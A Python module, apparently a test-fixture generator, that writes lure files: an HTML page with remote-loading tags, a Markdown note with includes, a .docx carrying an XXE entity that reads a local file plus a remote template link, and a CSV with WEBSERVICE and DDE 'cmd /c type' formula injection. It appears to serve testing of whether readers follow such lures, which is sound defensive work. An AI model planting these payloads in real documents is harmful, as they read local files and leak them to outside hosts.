"""Documents that would have their reader open or call something."""

from __future__ import annotations

import io
import zipfile
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default '
    'Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
    'ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def luring_files(address: str, path: Path) -> Iterator[tuple[str, bytes]]:
    """Yield names and contents of documents that name an address and a file wherever a reader might follow."""
    file = path.as_uri()
    page = f"""<html><head><base href="{address}"><link rel=stylesheet href="{address}"><meta http-equiv=refresh
        content="0;url={address}"><script src="{address}"></script></head><body background="{address}">A page.
        <img src="{address}"><iframe src="{file}"></iframe><object data="{file}"></object><embed src="{address}">"""
    yield "page.html", page.encode()
    yield "note.md", f"![[{path}]] ![x]({address}) <img src={file}> {{{{include {path}}}}} [[{address}]]".encode()
    entity = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "{file}"><!ENTITY % b SYSTEM "{address}"> %b;]>'
    text = f'{entity}<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>'
    yield "letter.docx", _office({"word/document.xml": text}, address)
    yield "link.txt", f"file: {path}\n{address}\n@{path}\n".encode()
    yield "list.csv", f'=WEBSERVICE("{address}"),=cmd|"/c type {path}"!A1\n'.encode()


def _office(parts: dict[str, str], address: str) -> bytes:
    main = f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
    outside = f'<Relationship Id="r9" Type="{OFFICE}/attachedTemplate" Target="{address}" TargetMode="External"/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", f'<Relationships xmlns="{space}">{main}</Relationships>')
        archive.writestr("word/_rels/document.xml.rels", f'<Relationships xmlns="{space}">{outside}</Relationships>')
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()
